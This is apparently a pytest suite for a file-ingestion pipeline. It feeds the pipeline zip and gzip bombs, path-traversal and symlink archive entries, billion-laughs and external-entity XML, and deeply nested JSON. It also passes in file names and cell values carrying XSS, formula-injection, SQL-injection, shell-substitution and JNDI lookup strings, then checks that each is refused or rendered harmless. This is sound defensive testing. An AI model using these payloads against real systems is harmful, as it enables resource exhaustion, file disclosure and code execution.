"""Files made to harm: each is refused with its reason or taken harmlessly, and the others of the same night are taken."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import struct
import tempfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook

from ingestion.acceptance import DeliveryOutcome
from tests.ingestion.conftest import ENROLLMENT_HEADER, ENROLLMENT_MAPPING, Town, enrollment_rows
from tests.ingestion.readers import made

_GOOD = ENROLLMENT_HEADER + enrollment_rows(3)
_ELSEWHERE = "the-content-of-another-file"
# Small enough that nothing here costs a second; the defaults are for true exports.
_LIMITS = {
    "MAX_COLUMNS": 5_000, "MAX_RECORD_BYTES": 1_000_000, "MAX_FIELD_BYTES": 300_000, "MAX_RECORDS": 200_000,
    "MAX_CELLS": 2_000_000, "MAX_ZIP_MEMBERS": 50, "MAX_DEPTH": 40, "MAX_DOCUMENT_BYTES": 3_000_000,
    "MAX_RECORD_ELEMENTS": 10_000, "MAX_BYTES": 60_000_000,
}  # fmt: skip


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes | str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return stream.getvalue()


def _link(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = 0o120777 << 16
    return info


def _understated() -> bytes:
    """An archive whose directory says that its member is small."""
    data = bytearray(_zip(("enroll.csv", _GOOD + "x" * 500_000)))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def _xml(before: str = "", inside: str = "") -> str:
    return f"<?xml version='1.0'?>{before}<all><one><Id>1</Id><S>{inside}</S></one></all>"


def _laughs() -> str:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE all [<!ENTITY l0 "ha">{steps}]>'


def _book(change: Callable[[dict[str, bytes]], None]) -> bytes:
    stream = io.BytesIO()
    book = Workbook()
    book.active.append(["Id", "S"])  # type: ignore[union-attr]
    book.save(stream)
    with zipfile.ZipFile(stream) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    return _zip(*parts.items())


def _far_cell(parts: dict[str, bytes]) -> None:
    cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", cell)


def _far_cell_in(row: str, place: str) -> Callable[[dict[str, bytes]], None]:
    """A cell whose row does not tell how far it reaches, written as no spreadsheet program would."""

    def change(parts: dict[str, bytes]) -> None:
        cell = f"{row}<c s='>' r='{place}'><v>1</v></c></row></sheetData>".encode()
        parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", cell)

    return change


def _placeless(parts: dict[str, bytes]) -> None:
    cells = (
        b"<row>" + b"<c><v>1</v></c>" * 4_000 + b"</row><row r='1048576'><c><v>1</v></c></row></sheetData>"
    )
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", cells)


def _xls() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        return made.xls(Path(folder), [("1", "2", "3")], 0).path.read_bytes()


def _far_xls() -> bytes:
    return _xls().replace(struct.pack("<HH", 1, 2), struct.pack("<HH", 65_535, 65_535))


def _circle() -> bytes:
    """A chain of sectors whose last one leads back to its first."""
    data = bytearray(_xls())
    table = data[512:1024]
    last = max(n for n in range(128) if table[4 * n : 4 * n + 4] == struct.pack("<I", 0xFFFFFFFE))
    data[512 + 4 * last : 516 + 4 * last] = struct.pack("<I", 2)
    return bytes(data)


def _padded(parts: dict[str, bytes]) -> None:
    parts["xl/worksheets/sheet1.xml"] += b" " * 40_000_000


def _entities(parts: dict[str, bytes]) -> None:
    name = "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in parts else "xl/workbook.xml"
    body = re.sub(rb"^<\?xml[^>]*\?>", b"", parts[name])
    parts[name] = b"<?xml version='1.0'?>" + _laughs().encode() + body


def _repeated_ods(folder: Path) -> bytes:
    data = made.ods(folder, [("1", "2", "3")], 0).path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    many = b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1024"'
    parts["content.xml"] = parts["content.xml"].replace(b"<table:table-row><table:table-cell", many, 1)
    return _zip(*parts.items())


def _csv(rows: list[list[str]]) -> str:
    stream = io.StringIO()
    csv.writer(stream).writerows(rows)
    return stream.getvalue()


# Name of the dropped file, its content, and the code with which it is refused.
HOSTILE: dict[str, tuple[str, bytes | str, str]] = {
    "a zip bomb": ("bomb.zip", _zip(("enroll.csv", b"0" * 30_000_000)), "zip_bomb"),
    "a zip that understates its content": ("lie.zip", _understated(), "zip_bomb|broken_zip"),
    "a gzip bomb": ("bomb.csv.gz", gzip.compress(b"0" * 30_000_000), "zip_bomb"),
    "a zip in a zip": ("nested.zip", _zip(("inner.zip", _zip(("enroll.csv", _GOOD)))), "nested_archive"),
    "a zip in a gzip in a zip": (
        "deep.zip", _zip(("a.gz", gzip.compress(_zip(("enroll.csv", _GOOD))))), "nested_archive",
    ),
    "many members": ("many.zip", _zip(*((f"e{n}.csv", "a") for n in range(60))), "too_many_members"),
    "an entry that climbs": ("climb.zip", _zip(("../../enroll.csv", _GOOD)), "unsafe_member"),
    "an entry that climbs backwards": ("climb2.zip", _zip(("..\\enroll.csv", _GOOD)), "unsafe_member"),
    "an absolute entry": ("root.zip", _zip(("/etc/enroll.csv", _GOOD)), "unsafe_member"),
    "an entry with a drive": ("drive.zip", _zip(("C:\\enroll.csv", _GOOD)), "unsafe_member"),
    "an entry that is a link": ("link.zip", _zip((_link("enroll.csv"), "/etc/passwd")), "unsafe_member"),
    "an entry with control characters": ("ctrl.zip", _zip(("en\x1b[2Jroll.csv", _GOOD)), "unsafe_member"),
    "entities within entities": ("laughs.xml", _xml(_laughs(), "&l11;"), "document_type"),
    "entities in UTF-16": ("laughs16.xml", _xml(_laughs(), "&l11;").replace("1.0'", "1.0' encoding='utf-16'", 1).encode("utf-16"), "document_type"),
    "entities behind a long comment": (
        "late.xml", _xml(f'<!--{"x" * 100_000}--><!DOCTYPE all [<!ENTITY e "text">]>', "a&e;b"), "document_type",
    ),
    "entities within entities behind a comment": (
        "later.xml", _xml(f"<!--{'x' * 100_000}-->{_laughs()}", "&l11;"), "document_type|broken_document",
    ),
    "an external entity": (
        "outside.xml", _xml('<!DOCTYPE all [<!ENTITY e SYSTEM "file:///etc/hostname">]>', "&e;"), "document_type",
    ),
    "an external document type": ("dtd.xml", _xml('<!DOCTYPE all SYSTEM "file:///etc/hostname">'), "document_type"),
    "elements nested deep": ("deep.xml", _xml(inside="<a>" * 5_000 + "</a>" * 5_000), "too_deep"),
    "a record of many elements": ("wide.xml", _xml(inside="<a>1</a>" * 20_000), "record_too_large"),
    "objects nested deep": ("deep.json", '[{"Id":' + '{"a":' * 50_000 + "1" + "}" * 50_000 + "}]", "too_deep"),
    "arrays nested deep": ("deep2.json", "[" * 200_000 + "]" * 200_000, "too_deep"),
    "a large document": ("large.json", json.dumps([{"Id": "x" * 100}] * 40_000), "too_large"),
    "a workbook with a far cell": ("far.xlsx", _book(_far_cell), "workbook_bomb"),
    "a workbook with a far cell in a near row": ("far2.xlsx", _book(_far_cell_in("<row r='5'>", "xfd1048576")), "workbook_bomb"),
    "a workbook with a cell past all": ("far3.xlsx", _book(_far_cell_in("<row>", "A4000000000")), "workbook_bomb|unreadable_workbook"),
    "a workbook with cells without a place": ("far4.xlsx", _book(_placeless), "workbook_bomb"),
    "an old workbook with a far cell": ("far.xls", _far_xls(), "workbook_bomb"),
    "an old workbook that goes in circles": ("circle.xls", _circle(), "broken_file|unreadable_workbook"),
    "a padded workbook": ("padded.xlsx", _book(_padded), "workbook_bomb"),
    "a workbook with entities": ("entities.xlsx", _book(_entities), "document_type"),
    "100,000 columns": ("columns.csv", ",".join(f"c{n}" for n in range(100_000)) + "\n1,2\n", "too_many_columns"),
    "100,000 names in an object": ("names.json", json.dumps([{f"c{n}": n for n in range(100_000)}]), "too_many_columns"),
    "a line without end": ("line.csv", ENROLLMENT_HEADER + "1," + "x" * 2_000_000, "record_too_large|line_too_long"),
    "an open quote before what is no table": (
        "open.csv", ENROLLMENT_HEADER + "".join(f'{n},"' + "word;" * 20 + "\n" for n in range(20_000)), "broken_records|no_good_row",
    ),
    "too many records": ("records.csv", ENROLLMENT_HEADER + "1,2\n" * 250_000, "too_many_records"),
    "too many bytes": ("bytes.csv", b"1,2,3\n" * 11_000_000, "too_large"),
    "nothing but NUL bytes": ("nul.csv", b"\0" * 100_000, "empty_file|not_text"),
    "a program": ("program.csv", b"\x7fELF" + bytes(range(1, 256)) * 400, "not_text|unsupported_format"),
}  # fmt: skip


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> tuple[Town, dict[str, DeliveryOutcome]]:
    """All of it dropped at once, among good files of two partners; outcomes by file name."""
    from tests.ingestion import conftest

    town: Town = conftest.new_town(tmp_path_factory.mktemp("hostile"))
    mapping = ENROLLMENT_MAPPING.replace('["enroll*.csv"]', '["*"]') + "delivery_mode: increment\n"
    for partner in ("district", "other"):
        town.mapping(mapping, partner)
    for name, content, _ in HOSTILE.values():
        town.drop(name, content)
    town.drop("cells.ods", _repeated_ods(tmp_path_factory.mktemp("ods")))
    town.drop("aa_first.csv", _GOOD)
    town.drop("zz_last.csv", ENROLLMENT_HEADER + enrollment_rows(3, 10))
    town.drop("enroll.csv", ENROLLMENT_HEADER + enrollment_rows(3, 20), "other")
    with pytest.MonkeyPatch.context() as patch:
        for limit, value in _LIMITS.items():
            patch.setenv(f"THROUGHLINE_LIMITS__{limit}", str(value))
        outcomes = town.receive()
    return town, {outcome.file_name: outcome for outcome in outcomes}


def test_the_night_goes_on(night: tuple[Town, dict[str, DeliveryOutcome]]) -> None:
    """If not, one partner's file costs all others their night."""
    town, outcomes = night
    assert [outcomes[name].status for name in ("aa_first.csv", "zz_last.csv", "enroll.csv")] == [
        "accepted"
    ] * 3
    assert town.rows("select count(*) from lake.k12_enrollment") == [(9,)]
    assert not [path for path in (town.root / "data" / "landing").rglob("*") if path.is_file()]


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_a_hostile_file_is_refused_with_its_reason(
    what: str, night: tuple[Town, dict[str, DeliveryOutcome]]
) -> None:
    """If not, it exhausts the machine, leads out of its folder, or is taken for data."""
    name, _, code = HOSTILE[what]
    outcome = night[1][name]
    assert outcome.status == "refused", outcome.findings
    (finding,) = [found for found in outcome.findings if found.severity == "refuse"]
    assert finding.code in code.split("|"), finding
    assert finding.why
    assert finding.fix
    assert outcome.receipt is not None
    assert outcome.receipt.exists()


def test_a_spreadsheet_that_repeats_cells_is_refused(night: tuple[Town, dict[str, DeliveryOutcome]]) -> None:
    """If not, a file of two kilobytes fills the memory with a thousand million cells."""
    outcome = night[1]["cells.ods"]
    assert outcome.status == "refused"
    assert outcome.findings[0].code == "workbook_bomb", outcome.findings


def test_an_open_quote_costs_its_own_record_only(enrolled: Town) -> None:
    """If not, a quote that nobody closed swallows the rest of a district's file."""
    rows = enrollment_rows(3_000).splitlines()
    rows[10] = rows[10].replace("Name", '"Name')
    outcome = enrolled.take("enroll.csv", ENROLLMENT_HEADER + "\n".join(rows) + "\n")
    judged = outcome.judgement
    assert outcome.status == "accepted"
    assert judged.records_read == judged.rows_in + judged.refused == 3_000
    assert judged.accepted >= 2_999


@pytest.mark.parametrize("quoted", [True, False])
def test_a_large_text_behind_an_open_quote_ends_at_the_limit(
    quoted: bool, enrolled: Town, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If not, two hundred megabytes are gathered into one cell, again and again."""
    monkeypatch.setenv("THROUGHLINE_LIMITS__MAX_RECORD_BYTES", "100000")
    monkeypatch.setenv("THROUGHLINE_LIMITS__MAX_FIELD_BYTES", "100000")
    text = ("nothing that a table holds\n" if quoted else "no line end at all, ") * 100_000
    enrolled.drop("enroll.csv", ENROLLMENT_HEADER + '1,"' + text)
    started = time.process_time()
    (outcome,) = enrolled.receive()
    assert time.process_time() - started < 20
    assert outcome.status == "refused", outcome.findings


def test_links_pipes_and_what_cannot_be_read_are_named_and_left(
    enrolled: Town, enrollment: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If not, a link takes a file of the machine for a delivery, or a pipe holds the night for ever."""
    (tmp_path / "secret.csv").write_text(_GOOD.replace("Oak", _ELSEWHERE))
    folder = enrolled.drop("enroll_good.csv", enrollment(3)).parent
    (folder / "enroll_link.csv").symlink_to(tmp_path / "secret.csv")
    (folder / "enroll_loop.csv").symlink_to(folder / "enroll_loop.csv")
    (folder / "enroll_folder").symlink_to(tmp_path, target_is_directory=True)
    os.mkfifo(folder / "enroll_pipe.csv")
    closed = enrolled.drop("enroll_closed.csv", enrollment(3, 50))
    # The user of the tests may be one who may read everything.
    may, moved = os.access, enrolled.drop("enroll_moved.csv", enrollment(3, 60))
    monkeypatch.setattr(os, "access", lambda path, how: Path(path) != closed and may(path, how))
    real_open = Path.open

    def gone(self: Path, *args: object, **options: object) -> object:
        if self == moved:
            raise PermissionError(13, "no")
        return real_open(self, *args, **options)  # type: ignore[call-overload]

    monkeypatch.setattr(Path, "open", gone)
    outcomes = {outcome.file_name: outcome for outcome in enrolled.receive()}
    assert outcomes.pop("enroll_good.csv").status == "accepted"
    assert {name: outcome.findings[0].code for name, outcome in outcomes.items()} == {
        "enroll_link.csv": "not_a_file",
        "enroll_loop.csv": "not_a_file",
        "enroll_folder": "not_a_file",
        "enroll_pipe.csv": "not_a_file",
        "enroll_closed.csv": "not_readable",
        "enroll_moved.csv": "failed",
    }
    assert all(outcome.findings[0].why and outcome.findings[0].fix for outcome in outcomes.values())
    assert (folder / "enroll_link.csv").is_symlink()
    assert (tmp_path / "secret.csv").exists()
    stored = [
        path
        for path in (enrolled.root / "data").rglob("*")
        if path.is_file() and not path.is_symlink() and path != moved
    ]
    assert not [path for path in stored if _ELSEWHERE.encode() in path.read_bytes()]


NAMES = [
    b"enroll\n<script>alert(1)<script>.csv",
    b"enroll\x1b[31m\x07.csv",
    b"enroll=cmd|' :C calc'!A0.csv",
    b"enroll'; drop table judged; --.csv",
    b"enroll\xff\xfe.csv",
    b"enroll_" + b"\xe2\x80\xae" + b"vsc.exe.csv",
    b"enroll'\").csv",
    b"enroll" + b"n" * 240 + b".csv",
    b"enroll [1] *.csv",
    b"enroll{a,b}?.csv",
    b"enroll $(touch here) `id` %s {0}.csv",
]


def test_any_file_name_is_taken_and_shown_harmlessly(enrolled: Town) -> None:
    """If not, a name writes on a terminal, runs in a browser or a spreadsheet, or breaks a path."""
    enrolled.mapping(ENROLLMENT_MAPPING.replace("enroll*.csv", "enroll*") + "delivery_mode: increment\n")
    folder = os.fsencode(enrolled.drop("enroll_plain.csv", _GOOD).parent)
    for number, name in enumerate(NAMES, start=1):
        with open(os.path.join(folder, name), "w") as stream:
            stream.write(ENROLLMENT_HEADER + enrollment_rows(3, 10 * number))
    outcomes = enrolled.receive()
    assert [(outcome.status, outcome.judgement.accepted) for outcome in outcomes] == [("accepted", 3)] * (
        len(NAMES) + 1
    )
    assert len({outcome.receipt for outcome in outcomes}) == len(NAMES) + 1
    for outcome in outcomes:
        assert outcome.file_name.isprintable()
        assert outcome.receipt is not None
        assert re.fullmatch(r"[A-Za-z0-9._-]+", outcome.receipt.name)
        _look_harmless(outcome.receipt)
    _look_harmless(outcomes[0].receipt.parent / "index.html")  # type: ignore[union-attr]


_POISON = [
    '<img src=x onerror="alert(1)">', "<script>alert(1)</script>", "=HYPERLINK(\"http://x.example\",\"y\")", "@SUM(1+1)*cmd|'/C calc'!A0",
    "'; drop table judged; --", "\"; attach 'x' as y; --", "{{ 7 * 7 }}", "-2+3", "\t=1+1", "${jndi:ldap://x.example}", "a\u202eb",
]  # fmt: skip


def test_headers_and_values_stay_text(enrolled: Town) -> None:
    """If not, whoever opens the receipt or the quarantine runs what a partner's file says."""
    header = [*ENROLLMENT_HEADER.strip().split(","), *_POISON]
    good = [[*row.split(","), *_POISON] for row in enrollment_rows(30).splitlines()]
    # As unknown codes, because frequent ones are named in the receipt; and as names and schools, which are kept.
    codes = [
        [str(100 + n), p, p, "04/01/2015", p, p, "2023-24", p, "03", "08/21/2023", *_POISON]
        for n, p in enumerate(_POISON * 4)
    ]
    schools = [
        [str(900 + n), p, p, "04/01/2015", "F", "W", "2023-24", p, "03", "08/21/2023", *_POISON]
        for n, p in enumerate(_POISON)
    ]
    outcome = enrolled.take("enroll.csv", _csv([header, *good, *codes, *schools]))
    assert outcome.status == "accepted", outcome.findings
    judged = outcome.judgement
    assert judged.rows_in == judged.accepted + judged.quarantined == len(good) + len(codes) + len(schools)
    assert judged.accepted == len(good) + len(schools)
    kept = {
        str(row[0]).strip() for row in enrolled.rows("select distinct school_id from lake.k12_enrollment")
    }
    assert {school.strip() for school in _POISON} <= kept
    assert outcome.receipt is not None
    text = outcome.receipt.read_text(encoding="utf-8")
    assert "&lt;img" in text or "img src" not in text
    _look_harmless(outcome.receipt)


def _look_harmless(page: Path) -> None:
    """No markup, script or control character of the file's in the page; no formula in the table beside it."""
    text = page.read_text(encoding="utf-8")
    assert not re.search(r"<img|<script|\son\w+\s*=\s*[\"'][^\"']*alert", text, re.IGNORECASE)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e]", text)
    table = page.with_suffix(".csv")
    if page.name == "index.html":
        return
    with table.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert cells
    wrong = [
        cell
        for cell in cells
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+", cell)
    ]
    assert not wrong
